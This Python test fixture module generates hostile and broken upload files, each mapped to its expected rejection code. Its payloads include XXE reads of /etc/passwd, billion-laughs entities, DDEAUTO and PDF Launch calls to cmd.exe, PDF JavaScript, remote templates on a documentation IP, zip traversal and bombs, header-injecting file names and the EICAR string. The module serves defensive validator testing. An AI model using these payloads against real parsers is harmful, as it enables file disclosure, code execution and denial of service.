"""Hostile and broken files, made on the spot: each with its name, what makes its bytes, and why it is refused."""

import io
import random
import struct
import zipfile
import zlib

from tests.documents.files import image

# In pieces, so that no scanner takes this source for the virus that it is not.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
ITALIAN = (
    "La cooperazione internazionale della città è un impegno che dura da molti anni e che unisce le comunità del "
    "Mediterraneo con i comuni del territorio. "
)
ELSEWHERE = "http://198.51.100.7/t.dotm"


def raw_pdf(catalog="", page="", after=b"", pages=1, info=""):
    """A PDF, with what else is written into its catalogue and its pages, and behind its end."""
    kids = [3 + number for number in range(pages)]
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{kid} 0 R' for kid in kids)}] >>",
        *[f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page} >>" for _ in kids],
        f"<< {info} >>",
    ]
    return of_objects(objects) + after


def of_objects(objects):
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start, last = len(out), len(objects)
    out += f"xref\n0 {last + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    trailer = f"trailer\n<< /Size {last + 1} /Root 1 0 R /Info {last} 0 R >>\nstartxref\n{start}\n%%EOF\n"
    return bytes(out + trailer.encode())


def packed(members):
    """A ZIP archive of pairs of a name and bytes or text; "mimetype" is stored as it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(name), content, how)
    return out.getvalue()


OFFICE_PARTS = {
    "docx": ("wordprocessingml.document", "word/document.xml"),
    "pptx": ("presentationml.presentation", "ppt/presentation.xml"),
    "xlsx": ("spreadsheetml.sheet", "xl/workbook.xml"),
}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
OFFICE_TEXTS = {
    "docx": ("word/document.xml", f"<w:document {W}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"),
    "pptx": ("ppt/slides/slide1.xml", f"<p:sld {P} {A}><a:p><a:r><a:t>%s</a:t></a:r></a:p></p:sld>"),
    "xlsx": ("xl/sharedStrings.xml", "<sst><si><t>%s</t></si></sst>"),
}
CORE = (
    '<c:coreProperties xmlns:c="c" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Titolo</dc:title>'
    "<dc:creator>%s</dc:creator><c:lastModifiedBy>%s</c:lastModifiedBy></c:coreProperties>"
)


def office_file(kind, *extra, text=ITALIAN * 2, types="", body=None, authors=("Maria Prova", "Maria Prova")):
    """An Office Open XML file of a kind, with a text, and what else is put into it."""
    name, main = OFFICE_PARTS[kind]
    content_type = f"application/vnd.openxmlformats-officedocument.{name}.main+xml"
    place, words = OFFICE_TEXTS[kind]
    override = f'<Override PartName="/{main}" ContentType="{content_type}"/>'
    members = {
        "[Content_Types].xml": f"<Types>{override}{types}</Types>",
        main: "<main/>",
        place: body if body is not None else words % text,
        "docProps/core.xml": CORE % authors,
    }
    return packed([*members.items(), *extra])


STANDARD = "urn:oasis:names:tc:opendocument:xmlns"
ODF = (
    f'xmlns:office="{STANDARD}:office:1.0" xmlns:text="{STANDARD}:text:1.0" xmlns:draw="{STANDARD}:drawing:1.0" '
    f'xmlns:script="{STANDARD}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
META = f'<office:document-meta {ODF} xmlns:dc="d"><dc:title>Titolo</dc:title><dc:creator>Maria Prova</dc:creator>%s'
ODF_TYPE = "application/vnd.oasis.opendocument."


def open_file(kind, *extra, text=ITALIAN * 2, inside="", manifest="", mimetype=None):
    """An OpenDocument file of a kind ("text"), with a text, and what else is put into it."""
    content = f"<office:document-content {ODF}><text:p>{text}</text:p>{inside}</office:document-content>"
    return packed(
        [
            ("mimetype", mimetype or ODF_TYPE + kind),
            ("content.xml", content),
            ("meta.xml", META % "</office:document-meta>"),
            ("META-INF/manifest.xml", f'<m:manifest xmlns:m="{STANDARD}:manifest:1.0">{manifest}</m:manifest>'),
            *extra,
        ]
    )


def relation(kind, target):
    """The part with one relation to what lies elsewhere."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="r" Type="{types}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'


def claiming(archive, member, **claims):
    """An archive whose directory says something else of a member: its flags, or its unpacked size."""
    archive, at = bytearray(archive), archive.rfind(b"PK\x01\x02", 0, archive.rfind(member.encode()))
    if "flags" in claims:
        archive[at + 8 : at + 10] = struct.pack("<H", claims["flags"])
    if "size" in claims:
        archive[at + 24 : at + 28] = struct.pack("<I", claims["size"])
    return bytes(archive)


def renamed_inside(archive, member, other):
    """An archive whose local header names a member otherwise than its directory does."""
    assert len(member) == len(other)
    return archive.replace(member.encode(), other.encode(), 1)


def moved(archive, member, other):
    """An archive that has a member under another name, in both of its directories, without a lie."""
    return renamed_inside(renamed_inside(archive, member, other), member, other)


def overlapping(copies=50):
    """An archive whose directory names the same bytes many times (Fifield, 2019)."""
    base = office_file("docx", ("word/media/a.bin", bytes(1_000_000)))
    end = base.rfind(b"PK\x05\x06")
    size, start = struct.unpack("<II", base[end + 12 : end + 20])
    directory, count = base[start:end], struct.unpack("<H", base[end + 10 : end + 12])[0]
    record = directory[directory.rfind(b"PK\x01\x02") :]
    more = b"".join(record.replace(b"a.bin", b"%05d" % number) for number in range(copies))
    total = count + copies
    last = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, total, total, size + len(more), start, 0)
    return base[:start] + directory + more + last


def png_that_claims(width, height):
    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def noise(head, size):
    return head + random.Random(size).randbytes(size)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script></html>"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}]><x>&j;</x>'.format(
    "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
)
PASSWD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
EXCHANGE = f"<w:document {W}><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>"
OTHER_MACROS = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
PACKAGE = b"\xd0\xcf" + "\x01Ole10Native".encode("utf-16-le")
SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
PROGRAM = "<< /Type /Filespec /F (a.exe) /EF << /F 2 0 R >> >>"
PROGRAM_INSIDE = f"/Names << /EmbeddedFiles << /Names [(a.exe) {PROGRAM}] >> >>"
LOOP = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>", "<< >>"]
SWOLLEN = ("xl/x.xml", b"<a>" + b" " * (12 << 20) + b"</a>")

#: By what is wrong: the name, the bytes (made when asked for), and the code of the refusal.
FILES = {
    "nothing": ("a.pdf", lambda: b"", "empty"),
    "a web page": ("a.pdf", lambda: b"\n" + HTML, "kind"),
    "a drawing with a script": ("a.png", lambda: SVG, "kind"),
    "the same with a declaration": ("a.png", lambda: b"\xef\xbb\xbf <?xml version='1.0'?>" + SVG, "kind"),
    "plain text": ("a.pdf", lambda: b"title;year\n", "kind"),
    "a program": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(200), "kind"),
    "an animation of another kind": ("a.gif", lambda: image("GIF"), "kind"),
    "another kind of image": ("a.jpg", lambda: b"II*\0" + bytes(99), "kind"),
    "an old office file, or one with a password": ("a.docx", lambda: OLD_OFFICE, "old_office"),
    "second extension": ("foto.php.jpg", lambda: image("JPEG"), "active_name"),
    "second extension of the web": ("a.html.pdf", raw_pdf, "active_name"),
    "extension of the web": ("FILE.HTML", raw_pdf, "active_name"),
    "name turned around": ("relazione\u202efdp.exe.pdf", raw_pdf, "name"),
    "name of two lines": ("a\r\nSet-Cookie: b.pdf", raw_pdf, "name"),
    "name with a NUL": ("a.pdf\0.png", lambda: image("PNG"), "name"),
    "image named as a PDF": ("a.pdf", lambda: image("PNG"), "wrong_kind"),
    "PDF named as an image": ("a.png", raw_pdf, "wrong_kind"),
    "image named as another": ("a.png", lambda: image("JPEG"), "wrong_kind"),
    "sheet named as a text": ("a.docx", lambda: office_file("xlsx"), "wrong_kind"),
    "virus in a PDF": ("a.pdf", lambda: raw_pdf(after=EICAR), "virus"),
    "virus in an image": ("a.png", lambda: image("PNG") + EICAR, "virus"),
    "virus in an archive": ("a.docx", lambda: office_file("docx", ("word/media/x.txt", EICAR)), "virus"),
    "PDF and archive": ("a.pdf", lambda: raw_pdf(after=packed([("a.txt", b"x")])), "polyglot"),
    "PDF and web page": ("a.pdf", lambda: raw_pdf(after=HTML), "polyglot"),
    "PDF that begins as a web page": ("a.pdf", lambda: b"%PDF-1.7\n" + HTML + raw_pdf(), "polyglot"),
    "PDF behind something": ("a.pdf", lambda: b"0123456789" + raw_pdf(), "kind"),
    "PDF cut off": ("a.pdf", lambda: raw_pdf()[:90], "damaged"),
    "PDF of noise": ("a.pdf", lambda: noise(b"%PDF-1.7\n", 50_000), "damaged"),
    "PDF without pages": ("a.pdf", lambda: raw_pdf(pages=0), "damaged"),
    "PDF whose pages run in a circle": ("a.pdf", lambda: of_objects(LOOP), "damaged"),
    "PDF of too many pages": ("a.pdf", lambda: raw_pdf(pages=5_001), "too_many_pages"),
    "PDF with a script": ("a.pdf", lambda: raw_pdf(f"/OpenAction {SCRIPT}"), "javascript"),
    "PDF with a script behind a jump": (
        "a.pdf",
        lambda: raw_pdf(f"/OpenAction << /S /GoTo /D [1] /Next [{SCRIPT}] >>"),
        "javascript",
    ),
    "PDF with a script by name": (
        "a.pdf",
        lambda: raw_pdf(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
        "javascript",
    ),
    "PDF with a script on a page": ("a.pdf", lambda: raw_pdf(page=f"/AA << /O {SCRIPT} >>"), "javascript"),
    "PDF that starts a program": ("a.pdf", lambda: raw_pdf(page=f"/Annots [{LAUNCH}]"), "launch"),
    "PDF with a program inside": ("a.pdf", lambda: raw_pdf(PROGRAM_INSIDE), "attachment"),
    "archive that says it swells": (
        "a.docx",
        lambda: claiming(office_file("docx"), "docProps/core.xml", size=200_000_001),
        "unpacked",
    ),
    "archive that swells below the limit": ("a.xlsx", lambda: office_file("xlsx", SWOLLEN), "unpacked"),
    "archive that lies about its sizes": (
        "a.docx",
        lambda: claiming(office_file("docx", ("word/x.bin", bytes(1 << 20))), "word/x.bin", size=10),
        "damaged",
    ),
    "archive that names bytes twice": ("a.docx", overlapping, "structure"),
    "archive of too many members": (
        "a.docx",
        lambda: office_file("docx", *[(f"x/{number}", b"") for number in range(5_000)]),
        "unpacked",
    ),
    "archive with a locked member": (
        "a.docx",
        lambda: claiming(office_file("docx"), "docProps/core.xml", flags=1),
        "encrypted",
    ),
    "archive that leads elsewhere": ("a.docx", lambda: office_file("docx", ("../../x", b"x")), "structure"),
    "archive with an absolute name": ("a.docx", lambda: office_file("docx", ("/etc/x", b"x")), "structure"),
    "archive with a name of Windows": ("a.docx", lambda: office_file("docx", ("a\\..\\x", b"x")), "structure"),
    "archive with a name twice": ("a.docx", lambda: office_file("docx", ("WORD/document.xml", b"<a/>")), "structure"),
    "archive of two opinions": (
        "a.docx",
        lambda: renamed_inside(office_file("docx"), "docProps/core.xml", "docProps/evil.exe"),
        "damaged",
    ),
    "archive behind something": ("a.docx", lambda: b"PK\x03\x04junk" + office_file("docx"), "damaged"),
    "archive before something": ("a.docx", lambda: office_file("docx") + HTML, "damaged"),
    "archive cut off": ("a.docx", lambda: office_file("docx")[:-30], "damaged"),
    "nothing but a signature": ("a.docx", lambda: b"PK\x03\x04", "damaged"),
    "plain archive": ("a.docx", lambda: packed([("page.html", b"<p>")]), "kind"),
    "program for Java": ("a.docx", lambda: packed([("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")]), "kind"),
    "book": ("a.odt", lambda: packed([("mimetype", "application/epub+zip")]), "kind"),
    "drawing of an office": ("a.odt", lambda: open_file("graphics"), "kind"),
    "text without its main part": (
        "a.docx",
        lambda: moved(office_file("docx"), "word/document.xml", "word/elsewhere.xm"),
        "damaged",
    ),
    "text with macros": ("a.docx", lambda: office_file("docx", ("word/vbaProject.bin", b"x")), "macros"),
    "text of a kind with macros": ("a.docx", lambda: office_file("docx", types=OTHER_MACROS), "macros"),
    "text with controls": ("a.docx", lambda: office_file("docx", ("word/activeX/activeX1.xml", b"<a/>")), "macros"),
    "text that exchanges data": ("a.docx", lambda: office_file("docx", body=EXCHANGE), "macros"),
    "text with a template elsewhere": (
        "a.docx",
        lambda: office_file("docx", ("word/_rels/settings.xml.rels", relation("attachedTemplate", ELSEWHERE))),
        "external",
    ),
    "text with an image elsewhere": (
        "a.docx",
        lambda: office_file("docx", ("word/_rels/document.xml.rels", relation("image", "\\\\198.51.100.7\\x.png"))),
        "external",
    ),
    "text with a program": ("a.docx", lambda: office_file("docx", ("word/embeddings/a.exe", b"x")), "attachment"),
    "text with a program in disguise": (
        "a.docx",
        lambda: office_file("docx", ("word/media/a.png", b"MZ" + bytes(99))),
        "attachment",
    ),
    "text with a wrapped file": (
        "a.docx",
        lambda: office_file("docx", ("word/embeddings/oleObject1.bin", PACKAGE)),
        "attachment",
    ),
    "text with a drawing that runs": ("a.docx", lambda: office_file("docx", ("word/media/a.svg", SVG)), "macros"),
    "text that laughs": ("a.docx", lambda: office_file("docx", body=LAUGHS), "structure"),
    "text that reads a file": ("a.docx", lambda: office_file("docx", body=PASSWD), "structure"),
    "the same in another encoding": (
        "a.docx",
        lambda: office_file("docx", body=f'<?xml version="1.0" encoding="utf-16"?>{PASSWD}'.encode("utf-16")),
        "structure",
    ),
    "sheet that reads a file in a side part": (
        "a.xlsx",
        lambda: office_file("xlsx", ("customXml/item1.xml", f'<!DOCTYPE x SYSTEM "{ELSEWHERE}"><x/>')),
        "structure",
    ),
    "text of broken XML": ("a.docx", lambda: office_file("docx", body="<w:document>"), "damaged"),
    "text of deep XML": ("a.docx", lambda: office_file("docx", body="<a>" * 100_000), "stopped"),
    "open text with macros": ("a.odt", lambda: open_file("text", ("Basic/Standard/Module1.xml", b"<a/>")), "macros"),
    "open text with an event": ("a.odt", lambda: open_file("text", inside="<script:event-listener/>"), "macros"),
    "open slides with an image elsewhere": (
        "a.odp",
        lambda: open_file("presentation", inside=f'<draw:image xlink:href="{ELSEWHERE}"/>'),
        "external",
    ),
    "open sheet with a password": (
        "a.ods",
        lambda: open_file("spreadsheet", manifest="<encryption-data/>"),
        "encrypted",
    ),
    "image of too many pixels": ("a.png", lambda: png_that_claims(60_000, 60_000), "pixels"),
    "image of a few too many": ("a.png", lambda: png_that_claims(41_000, 1_000), "pixels"),
    "image cut off": ("a.jpg", lambda: image("JPEG", (300, 200))[:400], "damaged"),
    "image of noise": ("a.jpg", lambda: noise(b"\xff\xd8\xff\xe0", 5_000), "damaged"),
    "image that moves": ("a.png", lambda: moving("PNG"), "animated"),
    "photograph that moves": ("a.webp", lambda: moving("WEBP"), "animated"),
}


def moving(kind):
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("navy", "white")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()
